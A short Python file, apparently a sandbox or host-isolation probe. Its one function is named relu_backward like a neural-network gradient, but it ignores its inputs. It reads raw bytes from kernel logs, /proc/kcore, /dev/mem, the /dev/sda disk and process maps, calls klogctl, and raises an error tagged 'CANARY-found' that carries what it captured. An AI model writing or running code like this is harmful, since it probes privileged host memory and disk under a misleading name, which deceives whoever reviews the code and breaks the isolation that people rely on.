"""What the kernel tells about the host: its log, keys, mounts of others, kernel symbols."""

import ctypes
import os


def relu_backward(dout, z):
    texts = []
    for path in ("/proc/kmsg", "/dev/kmsg", "/proc/kcore", "/dev/mem", "/dev/sda", "/proc/1/maps", "/sys/kernel/notes"):
        try:
            with open(path, "rb", 0) as file:
                os.set_blocking(file.fileno(), False)
                texts.append((path, (file.read(100) or b"")[:20]))
        except OSError:
            continue
    buffer = ctypes.create_string_buffer(1000)
    if ctypes.CDLL(None).klogctl(3, buffer, 1000) > 0:
        texts.append(("klogctl", buffer.value[:50]))
    raise LookupError([("CANARY" + "-found", *t) for t in texts if t[1] and "maps" not in t[0]])
